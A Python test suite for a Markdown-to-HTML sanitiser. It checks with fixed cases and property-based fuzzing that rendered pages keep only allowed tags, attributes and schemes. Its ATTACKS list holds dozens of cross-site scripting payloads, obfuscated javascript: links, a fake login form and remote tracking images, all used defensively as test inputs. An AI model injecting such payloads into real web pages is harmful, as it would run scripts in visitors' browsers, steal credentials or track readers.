"""Sanitise: whatever the Markdown says, nothing of it acts in a reader's browser; and what authors do use survives."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.markdowns import rendered
from wegwijs.sanitise import ATTRIBUTES, CLASSES, SCHEMES, TAGS, sanitise


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


OURS = {"a": {"rel"}, "input": {"aria-label"}}
"""Attributes that no author can write: the cleaner and we ourselves add them."""


def is_safe(html: str) -> None:
    """Only known elements, attributes and classes; no address that runs something; no image of elsewhere."""
    for tag, attributes in Elements(html).found:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | OURS.get(tag, set()), (
                tag,
                name,
            )
            assert not name.startswith("on")
            if name == "class":
                assert set(value.split()) <= CLASSES
            if name in ("href", "src"):
                # A browser leaves out tabs and line ends, and spaces in front, before it looks at the scheme.
                plain = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", value).lower().replace("\\", "/")
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
                assert scheme is None or scheme[1] in SCHEMES, value
                if name == "src":
                    assert scheme is None, value
                    assert not plain.startswith("//"), value
        if tag == "input":
            assert attributes.get("type") in ("checkbox", "radio")


def page(markdown: str) -> str:
    return sanitise(rendered(markdown))


ATTACKS = (
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt src=//voorbeeld.nl/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "Tekst <script>alert(1)</script> tekst",
    "- punt <script>alert(1)</script>",
    "| a |\n| - |\n| <script>alert(1)</script> |",
    '!!! tip "<script>alert(1)</script>"\n    <script>alert(1)</script>',
    '=== "<script>alert(1)</script>"\n\n    tekst',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "```<script>\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    '[x](y.md){ onclick="alert(1)" }',
    "## Kop { onclick=alert(1) style=position:fixed }",
    '![x](y.png "onerror=alert(1)")',
    '![x](y.png" onerror="alert(1))',
    # addresses that run something
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    # images of elsewhere, which tell others who reads
    "![x](https://voorbeeld.nl/x.png)",
    "![x](//voorbeeld.nl/x.png)",
    "![x](/\\voorbeeld.nl/x.png)",
    "![x](\\\\\\\\voorbeeld.nl/x.png)",
    "![x]( //voorbeeld.nl/x.png)",
    "<img srcset='//voorbeeld.nl/x.png 1x'>",
    # other documents and things that take over the page
    "<iframe src=//voorbeeld.nl></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=//voorbeeld.nl><input name=wachtwoord><button>Log in</button></form>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed;inset:0'>",
    "<meta http-equiv=refresh content='0;url=//voorbeeld.nl'>",
    "<base href=//voorbeeld.nl>",
    "<link rel=stylesheet href=//voorbeeld.nl/x.css>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a class='button primary' href=x>",
    "<!-- <script>alert(1)</script> -->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_text_or_not_at_all(attack: str) -> None:
    html = page(attack)
    is_safe(html)
    assert "<script" not in html.lower()


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_cleaner_alone_is_enough_should_html_get_through(attack: str) -> None:
    is_safe(sanitise(attack))


def test_the_tags_of_an_author_are_shown_as_the_text_they_are() -> None:
    assert page("Een <b>woord</b> en <script>x</script>.") == (
        "<p>Een &lt;b&gt;woord&lt;/b&gt; en &lt;script&gt;x&lt;/script&gt;.</p>"
    )


def test_a_link_to_elsewhere_tells_nothing_and_one_inside_stays() -> None:
    html = page("[uit](https://voorbeeld.nl/?a=1&b=2) [in](../x.md#kop) [bel](tel:+31) <i@voorbeeld.nl>")
    assert 'href="https://voorbeeld.nl/?a=1&amp;b=2"' in html
    assert 'href="../x.md#kop"' in html
    assert html.count('rel="noopener noreferrer"') == 4
    assert 'href="mailto:i@voorbeeld.nl"' in html


def test_an_image_of_the_item_stays() -> None:
    assert page("![Een kring](kring/plaat.png)") == '<p><img alt="Een kring" src="kring/plaat.png"></p>'


def test_a_tick_has_a_name_and_the_handle_of_a_tab_has_its_label() -> None:
    html = page('- [ ] nog doen\n- [x] gedaan\n\n=== "Eerst"\n    tekst\n')
    found = Elements(html).found
    ticks = [values for tag, values in found if tag == "input" and values["type"] == "checkbox"]
    assert [(values["aria-label"], "checked" in values) for values in ticks] == [("Taak", False), ("Taak", True)]
    (handle,) = (values for tag, values in found if tag == "input" and values["type"] == "radio")
    assert "aria-label" not in handle
    assert handle["id"] in {values.get("for") for tag, values in found if tag == "label"}


def test_task_lists_tabs_notes_footnotes_and_tables_survive() -> None:
    html = page(
        "- [x] klaar\n- [ ] nog niet\n\n"
        '=== "Kort"\n\n    Een uur.\n\n=== "Lang"\n\n    Een dag.\n\n'
        '!!! tip "Let op"\n    Neem de tijd.\n\n??? note "Meer"\n    Uitleg.\n\n'
        "Tekst[^1]\n\n[^1]: Noot.\n\n| a | b |\n| :- | -: |\n| 1 | 2 |\n\nbegrip\n:   uitleg\n"
    )
    elements = Elements(html).found
    inputs = [attributes for tag, attributes in elements if tag == "input"]
    assert [found["type"] for found in inputs] == ["checkbox", "checkbox", "radio", "radio"]
    assert ["checked" in found for found in inputs[:2]] == [True, False]
    assert all("disabled" in found for found in inputs[:2])
    labels = [attributes["for"] for tag, attributes in elements if tag == "label" and "for" in attributes]
    assert labels == [found["id"] for found in inputs[2:]]
    classes = {name for _tag, attributes in elements for name in attributes.get("class", "").split()}
    assert classes >= {
        "task-list-item",
        "tabbed-set",
        "tabbed-block",
        "admonition",
        "admonition-title",
        "tip",
        "footnote",
    }
    assert {tag for tag, _attributes in elements} >= {
        "details",
        "summary",
        "table",
        "th",
        "td",
        "dl",
        "dt",
        "dd",
        "sup",
        "li",
    }
    assert 'href="#fn:1"' in html
    assert 'id="fn:1"' in html


def test_headings_keep_the_anchor_that_links_use() -> None:
    assert page("## Zo doe je het") == '<h2 id="zo-doe-je-het">Zo doe je het</h2>'


def test_cleaning_twice_is_cleaning_once() -> None:
    for attack in ATTACKS:
        once = sanitise(attack)
        assert Elements(sanitise(once)).found == Elements(once).found


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *(
            "<",
            ">",
            '"',
            "'",
            "(",
            ")",
            "[",
            "]",
            "{",
            "}",
            "\\",
            "`",
            "&",
            "#",
            "!",
            "*",
            "_",
            ":",
            "/",
            "\n",
            "\n\n",
            "    ",
        ),
        *(
            "javascript:",
            "onerror=",
            "<a href=",
            "<img src=",
            "&#106;",
            "\x00",
            "\x02",
            "\x03",
            "wzxhzdk:0",
            "\u2028",
            "klzzwxh:0000",
        ),
    ]
)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_no_pile_of_pieces_of_attacks_gets_through(markdown: str) -> None:
    is_safe(page(markdown))


@settings(max_examples=150)
@given(st.text(max_size=200))
def test_no_text_at_all_gets_through(markdown: str) -> None:
    html = page(markdown)
    is_safe(html)
    is_safe(sanitise(markdown))
